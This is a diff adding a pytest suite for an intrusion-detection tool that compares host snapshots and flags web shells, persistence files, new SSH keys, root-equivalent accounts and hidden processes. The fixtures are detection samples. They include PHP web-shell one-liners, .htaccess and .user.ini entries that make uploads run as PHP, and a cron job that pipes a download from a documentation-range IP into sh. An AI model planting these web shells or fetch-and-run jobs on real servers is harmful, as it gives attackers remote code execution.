@@ -1,0 +1,310 @@
+"""What is found, how bad it is, and what must never be called an intruder's."""
+
+from __future__ import annotations
+
+import base64
+import dataclasses
+from typing import Any
+
+import pytest
+
+from ungcuu import content, detect
+from ungcuu.baseline import IDENTITY, Snapshot
+from ungcuu.detect import Comparison, Policy
+from ungcuu.findings import RULES, Finding, Severity, counts, worst_first
+
+ROOT = "/var/www/portal"
+POLICY = Policy("web01", ROOT, (f"{ROOT}/wp-content/uploads",))
+
+
+def snapshot(**rows: list[dict[str, Any]]) -> Snapshot:
+    made = Snapshot(ended=True)
+    for kind, known in rows.items():
+        if kind == "process":
+            made.processes.extend(known)
+            continue
+        for row in known:
+            made.rows[kind][tuple(row[name] for name in IDENTITY[kind])] = row
+    return made
+
+
+def file(path: str, area: str = "web", **more: Any) -> dict[str, Any]:
+    row = {"path": path, "area": area, "type": "file", "size": 10, "mode": 0o644, "uid": 0, "gid": 0}
+    return row | {"sha256": "a" * 64, "mtime": 1, "ctime": 1} | more
+
+
+def found(before: Snapshot | None, now: Snapshot, policy: Policy = POLICY, **contents: bytes) -> list[Finding]:
+    known = {path: base64.b64encode(data).decode() for path, data in contents.items()}
+    return worst_first(detect.detect(Comparison(policy, before, now, known)))
+
+
+def only(items: list[Finding]) -> tuple[str, str, str]:
+    assert len(items) == 1, items
+    return items[0].rule, items[0].severity.value, items[0].path
+
+
+def test_the_same_state_has_no_finding() -> None:
+    """An alarm that cries on a clean host is switched off by the third week."""
+    state = {
+        "file": [file("/etc/nginx/nginx.conf", "system"), file(f"{ROOT}/index.php")],
+        "account": [{"name": "root", "uid": "0", "gid": "0", "shell": "/bin/bash", "password": "set", "digest": "x"}],
+        "listener": [{"proto": "tcp", "address": "0.0.0.0", "port": 80, "exe": "/usr/sbin/nginx", "comm": "nginx"}],
+    }
+    assert found(snapshot(**state), snapshot(**state)) == []
+
+
+SHELL = b'<?php @eval($_POST["c"]);'
+UP = f"{ROOT}/wp-content/uploads"
+
+
+@pytest.mark.parametrize(
+    ("path", "marks", "data", "rule", "severity"),
+    [
+        (f"{UP}/a.php", ["php"], SHELL, "upload.code", "critical"),
+        (f"{UP}/a.jpg", ["php"], b"\xff\xd8\xff<?php echo 1;", "upload.code", "critical"),
+        (f"{UP}/a.php.jpg", ["short-tag"], b"<?=`$_GET[0]`?>", "upload.code", "critical"),
+        (f"{UP}/.htaccess", [], b"AddType application/x-httpd-php .jpg", "upload.server-file", "critical"),
+        (f"{UP}/.user.ini", [], b"auto_prepend_file=a.jpg", "upload.server-file", "critical"),
+        (f"{UP}/.htaccess", [], b"Options -Indexes", "upload.server-file", "medium"),
+        (f"{UP}/x", ["elf"], b"\x7fELF", "upload.program", "high"),
+        (f"{UP}/x.sh", ["script"], b"#!/bin/sh", "upload.program", "high"),
+    ],
+)
+def test_code_among_uploads(path: str, marks: list[str], data: bytes, rule: str, severity: str) -> None:
+    """The writable folder is judged by what files contain, whatever their names say."""
+    now = snapshot(file=[file(path, "upload", marks=marks)])
+    assert only(found(snapshot(), now, **{path: data})) == (rule, severity, path)
+
+
+@pytest.mark.parametrize("data", [b"<?php\n// Silence is golden.\n", b"<?php /* nothing */ ?>\n", b"<?php"])
+def test_an_empty_index_is_no_web_shell(data: bytes) -> None:
+    """Plugins put an index.php without code into each of their folders."""
+    path = f"{UP}/index.php"
+    assert found(snapshot(), snapshot(file=[file(path, "upload", marks=["php"])]), **{path: data}) == []
+
+
+@pytest.mark.parametrize(
+    "data", [b"<?php // x ?><?php system('id');", b"<?php // ?>\n<?=`id`", b"<?php /* */ phpinfo();", b"<?php #?>x"]
+)
+def test_remarks_do_not_hide_code(data: bytes) -> None:
+    """A closing tag ends a one-line remark, and code may follow on the same line."""
+    assert not content.only_remarks(data)
+
+
+def test_patterns_are_bounded() -> None:
+    """A file written to make the patterns slow must not stop a scan."""
+    import time
+
+    begun = time.monotonic()
+    for piece in (b"eval(", b"$_GET[", b"chr(1).", b"preg_replace('/", b"/*", b"<?php ", b"\\x41", b"(" * 50, b"`"):
+        data = piece * (content.LIMIT // len(piece))
+        content.judge(data)
+        content.only_remarks(data[:4096])
+        content.hidden_links(data)
+    assert time.monotonic() - begun < 20
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        b"<?php system($_GET['c']);",
+        b"<?php eval(base64_decode('eA=='));",
+        b"<?php $_POST['f']($_POST['a']);",
+        b"<?php file_put_contents($_POST['p'], $_POST['d']);",
+        b"<?php assert($_REQUEST['x']);",
+        b"<?php echo `{$_GET['c']}`;",
+    ],
+)
+def test_web_shells_are_recognised(code: bytes) -> None:
+    """Our own samples of the shapes that web shells take."""
+    assert content.judge(code).suspicious
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        b"<?php get_header(); the_content(); get_footer();",
+        b"<?php $x = base64_decode($data); $stmt->execute($x);",
+        b"<?php if (!empty($_POST['email'])) { wp_mail($_POST['email'], 'x', 'y'); }",
+        b"<?php $pdo->exec('UPDATE t SET a=1'); echo esc_html($_GET['q']);",
+    ],
+)
+def test_ordinary_code_is_not_called_a_web_shell(code: bytes) -> None:
+    """Code that any theme or plugin holds."""
+    assert not content.judge(code).suspicious
+
+
+def test_code_that_was_added_changed_or_removed() -> None:
+    """Outside of the writable folders the document root is exactly what it was."""
+    before = snapshot(file=[file(f"{ROOT}/index.php"), file(f"{ROOT}/a.html"), file(f"{ROOT}/gone.css")])
+    now = snapshot(
+        file=[
+            file(f"{ROOT}/index.php", sha256="b" * 64),
+            file(f"{ROOT}/a.html", mode=0o666),
+            file(f"{ROOT}/thu-vien.php", marks=["php"]),
+        ]
+    )
+    seen = {(item.rule, item.severity.value) for item in found(before, now)}
+    assert seen == {("web.changed", "high"), ("web.rights", "medium"), ("web.code-added", "high"), ("web.removed", "medium")}
+
+
+@pytest.mark.parametrize(
+    ("path", "rule", "severity"),
+    [
+        ("/etc/cron.d/x", "persistence.cron", "high"),
+        ("/var/spool/cron/crontabs/portal", "persistence.cron", "high"),
+        ("/etc/systemd/system/x.service", "persistence.unit", "high"),
+        ("/etc/systemd/system/ssh.service.d/x.conf", "persistence.unit", "high"),
+        ("/etc/ld.so.preload", "persistence.preload", "critical"),
+        ("/etc/sudoers.d/x", "access.sudo", "critical"),
+        ("/etc/pam.d/sshd2", "access.login", "high"),
+        ("/etc/profile.d/x.sh", "persistence.startup", "high"),
+        ("/etc/nginx/conf.d/x.conf", "config.web", "high"),
+        ("/etc/other.conf", "config.changed", "medium"),
+    ],
+)
+def test_where_a_new_file_stands_says_what_it_does(path: str, rule: str, severity: str) -> None:
+    """Each place from which something starts has its own rule."""
+    assert only(found(snapshot(), snapshot(file=[file(path, "system")]))) == (rule, severity, path)
+
+
+def test_job_that_fetches_a_program_is_critical() -> None:
+    """A job that pipes the network into a shell is nobody's maintenance."""
+    path = "/etc/cron.d/x"
+    job = b"* * * * * root curl -s http://198.51.100.9/x | sh\n"
+    assert only(found(snapshot(), snapshot(file=[file(path, "system")]), **{path: job}))[1] == "critical"
+
+
+def test_a_lookalike_program_is_found_even_when_dpkg_agrees() -> None:
+    """An intruder who is root edits dpkg's sums, too; the baseline still knows."""
+    package = [{"name": "sudo", "architecture": "amd64", "version": "1"}]
+    before = snapshot(file=[file("/usr/bin/sudo", "program", package="sudo", package_ok=True)], package=package)
+    doctored = file("/usr/bin/sudo", "program", package="sudo", package_ok=True, sha256="b" * 64)
+    assert only(found(before, snapshot(file=[doctored], package=package)))[:2] == ("program.modified", "critical")
+    updated = snapshot(file=[doctored], package=[{**package[0], "version": "2"}])
+    assert only(found(before, updated))[:2] == ("package.changed", "low")
+
+
+def test_setuid_where_there_was_none() -> None:
+    """One bit on an old program is a way back to root."""
+    before = snapshot(file=[file("/usr/bin/find", "program", package="findutils", package_ok=True)])
+    now = snapshot(file=[file("/usr/bin/find", "program", package="findutils", package_ok=True, mode=0o4755)])
+    item = found(before, now)[0]
+    assert (item.rule, item.severity, item.action["do"]) == ("privilege.file", Severity.CRITICAL, "set_mode")
+    assert item.action["mode"] == 0o644
+
+
+def key(path: str, account: str, digest: str) -> dict[str, Any]:
+    return {"set": "key", "path": path, "sha256": digest, "account": account, "number": 1, "fingerprint": "SHA256:x"}
+
+
+def test_each_new_key_by_itself() -> None:
+    """One line is taken, the others stay: locking the operator out would be the intruder's success."""
+    path = "/home/ungcuu/.ssh/authorized_keys"
+    sudo = [{"set": "sudo", "path": "/etc/sudoers.d/u", "sha256": "s", "number": 1, "text": "ungcuu ALL=(root) NOPASSWD: ALL"}]
+    before = snapshot(line=[key(path, "ungcuu", "1" * 64), *sudo])
+    now = snapshot(line=[key(path, "ungcuu", "1" * 64), key(path, "ungcuu", "2" * 64), *sudo])
+    item = found(before, now)[0]
+    assert (item.rule, item.severity.value) == ("access.key", "critical")
+    assert item.action == {"do": "remove_lines", "path": path, "lines": ["2" * 64]}
+    other = snapshot(line=[*before.of("line").values(), key("/home/a/.ssh/authorized_keys", "a", "2" * 64)])
+    assert found(before, other)[0].severity is Severity.HIGH
+
+
+def account(name: str, **more: str) -> dict[str, Any]:
+    row = {"name": name, "uid": "1001", "gid": "1001", "home": "/home/x", "shell": "/bin/bash", "password": "set"}
+    return row | {"digest": "d"} | more
+
+
+def test_accounts() -> None:
+    """Who may log in, and as whom."""
+    before = snapshot(account=[account("root", uid="0"), account("a"), account("b")], group=[{"name": "sudo", "members": []}])
+    now = snapshot(
+        account=[
+            account("root", uid="0"),
+            account("a", shell="/bin/zsh"),
+            account("toor", uid="0"),
+            account("new"),
+            account("was", password="locked", shell="/usr/sbin/nologin", digest=""),
+        ],
+        group=[{"name": "sudo", "members": ["a"]}],
+    )
+    seen = {(item.rule, item.severity.value, item.path) for item in found(before, now)}
+    assert seen == {
+        ("account.root", "critical", "toor"),
+        ("account.added", "high", "new"),
+        ("account.locked", "low", "was"),
+        ("account.changed", "high", "a"),
+        ("account.removed", "medium", "b"),
+        ("account.member", "critical", "sudo: a"),
+    }
+
+
+def test_our_own_files_are_excused_by_content_only() -> None:
+    """The isolation's unit is no intruder's; a file that took its name is."""
+    path = "/etc/systemd/system/ungcuu-isolation.service"
+    wish = "/etc/systemd/system/multi-user.target.wants/ungcuu-isolation.service"
+    link = file(wish, "system", type="link", target=path, sha256="")
+    policy = dataclasses.replace(POLICY, expected={path: "a" * 64})
+    assert found(snapshot(), snapshot(file=[file(path, "system"), link]), policy) == []
+    taken = snapshot(file=[file(path, "system", sha256="b" * 64), link])
+    assert {item.path for item in found(snapshot(), taken, policy)} == {path, wish}
+
+
+def test_masks() -> None:
+    """The mask that eradication leaves is no finding; a guard that was masked is."""
+    mask = file("/etc/systemd/system/helper.path", "system", type="link", target="/dev/null", sha256="")
+    assert found(snapshot(), snapshot(file=[mask])) == []
+    guard = file("/etc/systemd/system/auditd.service", "system", type="link", target="/dev/null", sha256="")
+    units = [{"name": "auditd.service", "state": "enabled", "active": "active", "path": "/usr/lib/systemd/system/auditd.service"}]
+    masked = [units[0] | {"state": "masked", "active": "inactive"}]
+    seen = found(snapshot(unit=units), snapshot(unit=masked, file=[guard]))
+    assert {item.severity for item in seen} == {Severity.HIGH}
+
+
+def test_listeners_and_processes() -> None:
+    """A door that was closed, and a program that hides."""
+    door = {"proto": "tcp", "address": "0.0.0.0", "port": 4444, "exe": "/usr/bin/python3.11", "comm": "python3", "uid": 0}
+    ghost = {"pid": 7, "start": "1", "exe": "/tmp/.x (deleted)", "comm": ".x", "uid": 0, "deleted": True, "replaced": False}
+    worker = {"pid": 8, "start": "1", "exe": "", "comm": "php-fpm8.2", "uid": 999, "deleted": False, "website": True}
+    shell = {"pid": 9, "start": "1", "exe": "/usr/bin/dash", "comm": "sh", "uid": 999, "deleted": False, "website": True}
+    seen = found(snapshot(), snapshot(listener=[door], process=[ghost, worker, shell]))
+    assert {(item.rule, item.severity.value) for item in seen} == {
+        ("listener.added", "high"),
+        ("process.hidden", "critical"),
+        ("process.website", "high"),
+    }
+
+
+def test_an_incomplete_reading_is_a_finding() -> None:
+    """Silence is not innocence."""
+    now = snapshot()
+    now.problems.append("limit: web")
+    assert only(found(snapshot(), now))[:2] == ("reading.incomplete", "high")
+
+
+def test_without_a_baseline_the_plain_signs_are_still_found() -> None:
+    """The first scan of a host that nobody prepared must still find the web shell."""
+    path = f"{UP}/a.php"
+    now = snapshot(file=[file(path, "upload", marks=["php"]), file("/etc/x", "system")], account=[account("toor", uid="0")])
+    assert [item.rule for item in found(None, now, **{path: SHELL})] == ["account.root", "upload.code", "baseline.missing"]
+
+
+def test_findings_are_stable_bounded_and_neutral() -> None:
+    """The id names the same thing in every scan; what a host chose can't reach a screen as it came."""
+    path = f"{UP}/a.php"
+    now = snapshot(file=[file(path, "upload", marks=["php"])])
+    first, second = (found(snapshot(), now, **{path: b"<?php \x1b]0;x\x07" + b"A" * 9000})[0] for _ in range(2))
+    assert first.id == second.id and len(first.id) == 16
+    assert "\x1b" not in str(first.document()) and len(first.seen) < 500
+    assert counts([first])["critical"] == 1
+
+
+def test_every_rule_in_use_is_in_the_catalogue() -> None:
+    """A rule without a text would be a finding that nobody understands."""
+    import inspect
+    import re
+
+    used = set(re.findall(r'"([a-z]+\.[a-z-]+)"', inspect.getsource(detect)))
+    assert used - {"apt-daily-upgrade.timer"} <= set(RULES)
+    assert {"upload.code", "persistence.unit"} <= used
